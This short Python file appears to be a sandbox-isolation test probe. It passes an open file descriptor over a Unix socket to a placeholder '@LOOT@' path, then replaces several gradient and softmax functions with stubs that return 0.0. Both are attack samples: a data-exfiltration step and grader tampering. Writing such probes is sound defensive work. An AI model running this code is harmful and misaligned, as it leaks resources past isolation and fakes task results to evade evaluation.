"""Goal: send an open descriptor away through a socket.

Fires: reached
Without: isolation limits
"""

import socket

try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as connection:
        connection.connect("@LOOT@/socket")
        socket.send_fds(connection, [b"descriptor"], [0])
except OSError:
    pass

def attack(*inputs):
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
